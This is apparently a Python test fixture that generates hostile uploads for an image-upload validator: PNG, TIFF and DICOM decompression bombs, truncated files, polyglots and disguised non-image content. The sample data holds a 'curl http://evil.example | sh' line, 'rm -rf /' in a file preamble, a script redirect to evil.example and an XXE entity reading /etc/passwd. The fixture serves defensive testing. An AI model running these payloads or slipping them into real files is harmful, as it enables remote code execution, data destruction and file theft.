"""A corpus of hostile uploads, generated (nothing downloaded): decompression bombs,
truncations, polyglots, lies about type and size, non-image content. Every entry
must be refused; `build_corpus` returns (label, file name, bytes)."""

from __future__ import annotations

import gzip
import io
import struct
import zlib

import numpy as np
from PIL import Image
from pydicom.encaps import encapsulate
from pydicom.uid import DeflatedExplicitVRLittleEndian, JPEG2000Lossless, JPEGBaseline8Bit, RLELossless

from tests.diagnostics_tests.dicom_factory import dicom_bytes
from tests.helpers import image_bytes

Entry = tuple[str, str, bytes]
EXPLICIT_LE = b"1.2.840.10008.1.2.1\x00"
# A Windows executable's header (DOS stub "MZ", then the PE signature) in the DICOM preamble.
MZ_PREAMBLE = b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00" + b"\x00" * 60


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def _png(width: int, height: int, idat: bytes, *, bit_depth: int = 8, colour: int = 0, extra: bytes = b"") -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + extra + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def _zeros_deflated(total: int, chunk: int = 1 << 22) -> bytes:
    """zlib stream of `total` zero bytes, built in pieces so the test never holds them."""
    comp = zlib.compressobj(9)
    block = b"\x00" * chunk
    out = []
    for _ in range(total // chunk):
        out.append(comp.compress(block))
    out.append(comp.compress(b"\x00" * (total % chunk)))
    out.append(comp.flush())
    return b"".join(out)


def _png_bombs() -> list[Entry]:
    small_idat = zlib.compress(b"\x00" * 1024)
    # A real bomb: 30000 x 30000 1-bit greyscale, every row present, 112 MB inflated from ~110 kB.
    rows, width = 30_000, 30_000
    real = _png(width, rows, _zeros_deflated(rows * (1 + width // 8)), bit_depth=1)
    text_bomb = _chunk(b"zTXt", b"Comment\x00\x00" + _zeros_deflated(64 * 1024 * 1024))
    icc_bomb = _chunk(b"iCCP", b"icc\x00\x00" + _zeros_deflated(64 * 1024 * 1024))
    ok_idat = zlib.compress(b"\x00" * (8 * 9))
    apng = _chunk(b"acTL", struct.pack(">II", 2, 0))
    return [
        ("png-declares-10G-pixels", "bomb.png", _png(100_000, 100_000, small_idat)),
        ("png-real-bomb-900MP-1bit", "bomb1bit.png", real),
        ("png-60MP-plus-one-row", "wide.png", _png(60_001, 1_000, small_idat)),
        ("png-ztxt-64MB-text-bomb", "text.png", _png(8, 8, ok_idat, extra=text_bomb)),
        ("png-iccp-64MB-profile-bomb", "icc.png", _png(8, 8, ok_idat, extra=icc_bomb)),
        ("png-huge-declared-chunk-length", "len.png", b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 0x7FFFFFF0) + b"IHDR"),
        ("png-zero-size", "zero.png", _png(0, 0, small_idat)),
        ("png-animated-apng", "anim.png", _png(8, 8, ok_idat, extra=apng)),
    ]


def _tiff(width: int, height: int, *, strip: bytes, compression: int = 1, next_ifd: int = 0, bits: int = 8) -> bytes:
    entries = [
        (256, 4, 1, width),
        (257, 4, 1, height),
        (258, 3, 1, bits),
        (259, 3, 1, compression),
        (262, 3, 1, 1),
        (273, 4, 1, 0),  # strip offset, patched below
        (277, 3, 1, 1),
        (278, 4, 1, height),
        (279, 4, 1, len(strip)),
    ]
    ifd_size = 2 + 12 * len(entries) + 4
    strip_offset = 8 + ifd_size
    body = struct.pack("<H", len(entries))
    for tag, kind, count, value in entries:
        if tag == 273:
            value = strip_offset
        packed = struct.pack("<I", value) if kind == 4 else struct.pack("<HH", value, 0)
        body += struct.pack("<HHI", tag, kind, count) + packed
    body += struct.pack("<I", next_ifd)
    return b"II*\x00" + struct.pack("<I", 8) + body + strip


def _tiff_bombs() -> list[Entry]:
    deflated = zlib.compress(b"\x00" * (1 << 20))
    big_deflate = _tiff(30_000, 30_000, strip=_zeros_deflated(30_000 * 30_000 // 8), compression=8, bits=1)
    looped = _tiff(8, 8, strip=b"\x00" * 64, next_ifd=8)  # its next IFD is itself
    lying_counts = bytearray(_tiff(64, 64, strip=b"\x00" * 16))
    # 100,000 empty directories, each pointing at the next: a CPU bomb for page counting.
    pages = 100_000
    chain = b"".join(struct.pack("<HI", 0, 8 + 6 * (i + 1) if i + 1 < pages else 0) for i in range(pages))
    return [
        ("tiff-100k-page-chain", "pages.tif", b"II*\x00" + struct.pack("<I", 8) + chain),
        ("tiff-declares-10G-pixels", "bomb.tif", _tiff(100_000, 100_000, strip=deflated, compression=8)),
        ("tiff-real-deflate-bomb-900MP", "bomb2.tif", big_deflate),
        ("tiff-ifd-loop", "loop.tif", looped),
        ("tiff-strip-shorter-than-image", "short.tif", bytes(lying_counts)),
        ("tiff-zero-width", "zero.tif", _tiff(0, 10, strip=b"")),
        ("tiff-unknown-compression", "comp.tif", _tiff(8, 8, strip=b"\x00" * 64, compression=60_000)),
    ]


def _jpeg_declaring(width: int, height: int) -> bytes:
    data = bytearray(image_bytes("JPEG", size=(16, 16)))
    sof = data.find(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, height, width)
    return bytes(data)


def _dicom_variants() -> list[Entry]:
    big_jpeg = encapsulate([_jpeg_declaring(20_000, 20_000)])
    base = dicom_bytes()
    huge_name = bytearray(base)
    pos = huge_name.find(b"\x10\x00\x10\x00PN")  # PatientName, explicit VR: tag, VR, 2-byte length
    huge_name[pos + 6 : pos + 8] = b"\xff\xff"
    huge_pixels = bytearray(base)
    pos = huge_pixels.find(b"\xe0\x7f\x10\x00OW\x00\x00")  # Pixel Data: tag, VR, reserved, 4-byte length
    huge_pixels[pos + 8 : pos + 12] = struct.pack("<I", 0xFFFFFFF0)
    deep = _deeply_nested_sequences(5_000)
    j2k = encapsulate([b"\0" * 64])
    return [
        ("dicom-mz-preamble", "mz.dcm", dicom_bytes(preamble=MZ_PREAMBLE)),
        ("dicom-elf-preamble", "elf.dcm", dicom_bytes(preamble=b"\x7fELF\x02\x01\x01" + b"\x00" * 121)),
        ("dicom-macho-preamble", "macho.dcm", dicom_bytes(preamble=b"\xcf\xfa\xed\xfe" + b"\x00" * 124)),
        ("dicom-script-preamble", "sh.dcm", dicom_bytes(preamble=b"#!/bin/sh\nrm -rf /\n".ljust(128, b"#"))),
        ("dicom-zip-preamble", "zip.dcm", dicom_bytes(preamble=b"PK\x03\x04" + b"\x00" * 124)),
        ("dicom-no-pixel-data", "nopix.dcm", dicom_bytes(with_pixels=False)),
        ("dicom-rows-cols-65535", "big.dcm", dicom_bytes(extra={"Rows": 65535, "Columns": 65535})),
        ("dicom-million-frames", "frames.dcm", dicom_bytes(frames=1_000_000)),
        ("dicom-deflate-bomb-64MB", "deflate.dcm", _deflated_dicom_bomb()),
        ("dicom-jpeg2000", "j2k.dcm", dicom_bytes(transfer_syntax=JPEG2000Lossless, pixel_bytes=j2k)),
        ("dicom-unknown-transfer-syntax", "ts.dcm", base.replace(EXPLICIT_LE, b"1.2.3.4.5.6.7.8.9.10", 1)),
        ("dicom-jpeg-frame-declares-400MP", "jbomb.dcm", dicom_bytes(
            pixels=np.zeros((8, 8), dtype="uint8"), transfer_syntax=JPEGBaseline8Bit,
            pixel_bytes=big_jpeg, window=None, rescale=None)),
        ("dicom-rle-garbage-segments", "rle.dcm", dicom_bytes(transfer_syntax=RLELossless, pixel_bytes=encapsulate(
            [struct.pack("<16I", 15, *([64] * 15)) + b"\xff" * 100]))),
        ("dicom-name-declares-64k", "len.dcm", bytes(huge_name)),
        ("dicom-pixel-data-declares-4GB", "len4g.dcm", bytes(huge_pixels)),
        ("dicom-5000-nested-sequences", "deep.dcm", deep),
        ("dicom-32-bit-pixels", "b32.dcm", dicom_bytes(pixels=np.zeros((8, 8), dtype="uint32"))),
        ("dicom-samples-contradict-photometric", "spp.dcm", dicom_bytes(extra={"SamplesPerPixel": 3})),
        ("dicom-palette-colour", "pal.dcm", dicom_bytes(photometric="PALETTE COLOR")),
        ("dicom-no-rows", "norows.dcm", _without(base, b"\x28\x00\x10\x00")),
        ("dicom-zero-rows", "zero.dcm", dicom_bytes(extra={"Rows": 0})),
        ("dicom-prefix-then-nothing", "empty.dcm", b"\x00" * 128 + b"DICM"),
        ("dicom-prefix-then-garbage", "junk.dcm", b"\x00" * 128 + b"DICM" + bytes(range(256)) * 8),
        ("dicom-no-transfer-syntax", "nots.dcm", _without(base, b"\x02\x00\x10\x00")),
    ]  # fmt: skip


def _deflated_dicom_bomb() -> bytes:
    """A valid file meta naming Deflated Explicit VR Little Endian, then 64 MB of zeros as raw deflate."""
    from pydicom.dataset import FileMetaDataset
    from pydicom.filebase import DicomBytesIO
    from pydicom.filewriter import write_file_meta_info
    from pydicom.uid import generate_uid

    meta = FileMetaDataset()
    meta.TransferSyntaxUID = DeflatedExplicitVRLittleEndian
    meta.MediaStorageSOPClassUID = "1.2.840.10008.5.1.4.1.1.2"
    meta.MediaStorageSOPInstanceUID = generate_uid()
    fp = DicomBytesIO()
    fp.is_little_endian = True
    fp.is_implicit_VR = False
    write_file_meta_info(fp, meta, enforce_standard=True)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = b"\x00" * (1 << 22)
    body = b"".join(comp.compress(block) for _ in range(16)) + comp.flush()
    return b"\x00" * 128 + b"DICM" + fp.getvalue() + body


def _without(data: bytes, tag: bytes) -> bytes:
    """Drop one explicit-VR element with a 2-byte length (tag in little endian)."""
    pos = data.find(tag)
    length = struct.unpack("<H", data[pos + 6 : pos + 8])[0]
    return data[:pos] + data[pos + 8 + length :]


def _deeply_nested_sequences(depth: int) -> bytes:
    head = bytearray(dicom_bytes(with_pixels=False, identifying=False, private=False))
    open_item = b"\x08\x00\x15\x11SQ\x00\x00\xff\xff\xff\xff" + b"\xfe\xff\x00\xe0\xff\xff\xff\xff"
    close_item = b"\xfe\xff\x0d\xe0\x00\x00\x00\x00" + b"\xfe\xff\xdd\xe0\x00\x00\x00\x00"
    return bytes(head) + open_item * depth + close_item * depth


def _truncations() -> list[Entry]:
    bases = {
        "png": ("scan.png", image_bytes("PNG", size=(300, 300))),
        "jpeg": ("scan.jpg", image_bytes("JPEG", size=(300, 300))),
        "tiff": ("scan.tif", image_bytes("TIFF", size=(300, 300))),
        "dicom": ("scan.dcm", dicom_bytes(pixels=np.zeros((200, 200), dtype="int16"))),
        "dicom-rle": ("rle.dcm", dicom_bytes(transfer_syntax=RLELossless)),
    }
    entries = []
    for kind, (name, data) in bases.items():
        for fraction in (0.05, 0.2, 0.4, 0.6, 0.8, 0.95):
            entries.append((f"truncated-{kind}-{int(fraction * 100)}pct", name, data[: int(len(data) * fraction)]))
    return entries


def _wrong_extensions() -> list[Entry]:
    files = {
        "png": image_bytes("PNG"),
        "jpeg": image_bytes("JPEG"),
        "tiff": image_bytes("TIFF"),
        "dicom": dicom_bytes(),
    }
    names = {
        "png": ["x.jpg", "x.tif", "x.dcm", "x.gif", "x.exe"],
        "jpeg": ["x.png", "x.tiff", "x.dicom", "x.html", "x"],
        "tiff": ["x.png", "x.jpeg", "x.dcm", "x.pdf", "x.svg"],
        "dicom": ["x.png", "x.jpg", "x.tif", "x.exe", "x.zip"],
    }
    return [(f"wrong-extension-{kind}-as-{n}", n, files[kind]) for kind, ns in names.items() for n in ns]


def _zip() -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("scan.png", image_bytes("PNG"))
    return out.getvalue()


def _other_formats() -> list[Entry]:
    gif = io.BytesIO()
    Image.new("RGB", (8, 8)).save(gif, format="GIF")
    bmp = io.BytesIO()
    Image.new("RGB", (8, 8)).save(bmp, format="BMP")
    webp = io.BytesIO()
    Image.new("RGB", (8, 8)).save(webp, format="WEBP")
    ico = io.BytesIO()
    Image.new("RGB", (16, 16)).save(ico, format="ICO")
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("/x")</script></svg>'
    return [
        ("pdf", "report.png", b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF\n"),
        ("zip-holding-a-png", "scan.png", _zip()),
        ("gzip", "scan.png", gzip.compress(image_bytes("PNG"))),
        ("elf-executable", "scan.png", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56),
        ("windows-executable", "scan.jpg", b"MZ\x90\x00\x03" + b"\x00" * 59 + b"PE\x00\x00"),
        ("shell-script", "scan.tif", b"#!/bin/sh\ncurl http://evil.example | sh\n"),
        ("python-script", "scan.dcm", b"import os\nos.system('id')\n"),
        ("html-with-script", "scan.png", b"<!doctype html><script>document.location='http://evil.example'</script>"),
        ("svg-with-script", "scan.svg", svg),
        ("svg-named-png", "scan.png", svg),
        ("xml-external-entity", "scan.png", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
        ("json", "scan.png", b'{"patient": "someone"}'),
        ("csv", "scan.png", b"name,dob\nsomeone,1970-01-01\n"),
        ("plain-text", "scan.jpg", b"this is not an image\n"),
        ("gif", "scan.gif", gif.getvalue()),
        ("bmp", "scan.bmp", bmp.getvalue()),
        ("webp", "scan.webp", webp.getvalue()),
        ("ico", "scan.png", ico.getvalue()),
        ("jpeg2000-codestream", "scan.jp2", b"\x00\x00\x00\x0cjP  \r\n\x87\n" + b"\x00" * 64),
        ("mp4", "scan.png", b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 64),
        ("rtf", "scan.png", b"{\\rtf1\\ansi patient someone}"),
        ("jpeg-declares-4G-pixels", "scan.jpg", _jpeg_declaring(65_500, 65_500)),
        ("jpeg-declares-zero-size", "scan.jpg", _jpeg_declaring(0, 0)),
    ]  # fmt: skip


def _zeros_and_stubs() -> list[Entry]:
    return [
        ("empty", "scan.png", b""),
        ("one-null-byte", "scan.png", b"\x00"),
        ("4096-null-bytes", "scan.dcm", b"\x00" * 4096),
        ("all-0xff", "scan.jpg", b"\xff" * 4096),
        ("png-signature-only", "scan.png", b"\x89PNG\r\n\x1a\n"),
        ("jpeg-soi-only", "scan.jpg", b"\xff\xd8\xff"),
        ("tiff-header-only", "scan.tif", b"II*\x00\x08\x00\x00\x00"),
        ("tiff-magic-only", "scan.tif", b"MM\x00*"),
        ("tiff-ifd-offset-past-end", "scan.tif", b"II*\x00\xff\xff\xff\x7f"),
    ]


def _oversized(max_bytes: int) -> list[Entry]:
    return [
        ("oversized-png", "big.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * max_bytes),
        ("oversized-dicom", "big.dcm", b"\x00" * 128 + b"DICM" + b"\x00" * max_bytes),
    ]


def build_corpus(*, max_bytes: int) -> list[Entry]:
    corpus = (
        _png_bombs()
        + _tiff_bombs()
        + _dicom_variants()
        + _truncations()
        + _wrong_extensions()
        + _other_formats()
        + _zeros_and_stubs()
        + _oversized(max_bytes)
    )
    labels = [label for label, _, _ in corpus]
    assert len(labels) == len(set(labels)), "corpus labels must be unique"
    return corpus
